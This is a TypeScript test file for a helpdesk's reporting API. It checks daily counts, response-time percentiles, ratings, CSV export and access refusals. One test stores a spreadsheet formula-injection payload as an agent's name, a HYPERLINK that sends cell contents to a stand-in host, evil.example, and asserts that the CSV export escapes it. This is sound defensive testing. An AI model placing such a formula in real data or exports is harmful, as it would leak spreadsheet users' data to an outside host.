// report.summary / report.csv: per-day counts, percentiles computed by PostgreSQL, ratings.
import { describe, it, expect } from "vitest";
import { callerFor } from "@/server/testing/caller";
import { statusByKey } from "@/server/testing/factories";
import { openTicket, staffWorld } from "@/server/testing/staff-helpers";
import { db } from "@/server/db/client";

const at = (s: string) => new Date(`${s}Z`);

describe("report.*", () => {
  it("computes created/closed per day, median/p90 times, ratings; CSV has the same numbers", async () => {
    const w = await staffWorld();
    const closed = await statusByKey("closed");
    const ids = [await openTicket(w.customer), await openTicket(w.customer), await openTicket(w.customer)];
    // created on Jan 1; first responses after 1h, 2h, 3h; two closed on Jan 2 after 24h and 48h... (second on Jan 3)
    const hours = [1, 2, 3];
    for (const [i, id] of ids.entries()) {
      await db().ticket.update({ where: { id }, data: { createdAt: at("2026-01-01T10:00:00"), firstResponseAt: new Date(at("2026-01-01T10:00:00").getTime() + hours[i]! * 3_600_000), assigneeId: w.agentUser.id } });
    }
    await db().ticket.update({ where: { id: ids[0]! }, data: { statusId: closed.id, closedAt: at("2026-01-02T10:00:00"), rating: 5, ratedAt: at("2026-01-02T12:00:00") } });
    await db().ticket.update({ where: { id: ids[1]! }, data: { statusId: closed.id, closedAt: at("2026-01-03T10:00:00"), rating: 3, ratedAt: at("2026-01-03T12:00:00") } });

    const r = await callerFor(w.agent).report.summary({ from: at("2026-01-01T00:00:00"), to: at("2026-01-04T00:00:00") });
    expect(r.perDay).toEqual([
      { day: "2026-01-01", created: 3, closed: 0 },
      { day: "2026-01-02", created: 0, closed: 1 },
      { day: "2026-01-03", created: 0, closed: 1 },
    ]);
    expect(r.firstResponse).toEqual({ count: 3, medianSeconds: 7200, p90Seconds: Math.round(3600 * 2.8) });
    expect(r.resolution).toEqual({ count: 2, medianSeconds: 36 * 3600, p90Seconds: Math.round(3600 * (24 + 0.9 * 24)) });
    expect(r.ratings).toEqual([{ rating: 1, count: 0 }, { rating: 2, count: 0 }, { rating: 3, count: 1 }, { rating: 4, count: 0 }, { rating: 5, count: 1 }]);
    expect(r.perAgent).toEqual([{ agentId: w.agentUser.id, name: w.agentUser.name, count: 2, average: 4 }]);

    const csv = await callerFor(w.agent).report.csv({ from: at("2026-01-01T00:00:00"), to: at("2026-01-04T00:00:00") });
    expect(csv.fileName).toBe("helpdesk-report-2026-01-01-2026-01-04.csv");
    expect(csv.csv).toContain("per_day,2026-01-01,3,0,");
    expect(csv.csv).toContain("first_response,seconds,7200,10080,3");
    expect(csv.csv).toContain(`agent_rating,${w.agentUser.name},4,2,`);
  });

  it("refuses customers and silly ranges", async () => {
    const w = await staffWorld();
    await expect(callerFor(w.customer).report.summary({ from: at("2026-01-01T00:00:00"), to: at("2026-01-02T00:00:00") })).rejects.toMatchObject({ code: "FORBIDDEN" });
    await expect(callerFor(w.agent).report.summary({ from: at("2026-01-02T00:00:00"), to: at("2026-01-01T00:00:00") })).rejects.toMatchObject({ code: "BAD_REQUEST" });
  });

  it("ASVS 5.0 V1.2.10: an agent named like a formula is exported as text, not as a formula", async () => {
    const w = await staffWorld();
    const closed = await statusByKey("closed");
    const id = await openTicket(w.customer);
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    await db().user.update({ where: { id: w.agentUser.id }, data: { name: evil } });
    await db().ticket.update({ where: { id }, data: { createdAt: at("2026-02-01T10:00:00"), assigneeId: w.agentUser.id, statusId: closed.id, closedAt: at("2026-02-01T12:00:00"), rating: 4, ratedAt: at("2026-02-01T13:00:00") } });
    const { csv } = await callerFor(w.agent).report.csv({ from: at("2026-02-01T00:00:00"), to: at("2026-02-02T00:00:00") });
    const row = csv.split("\r\n").find((l) => l.startsWith("agent_rating,"))!;
    expect(row).toBe(`agent_rating,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",4,1,`);
    // no cell of the file starts a formula
    for (const line of csv.trim().split("\r\n")) for (const cell of line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) expect(cell.replace(/^"/, "")).not.toMatch(/^[=+@\t\r]/);
  });
});
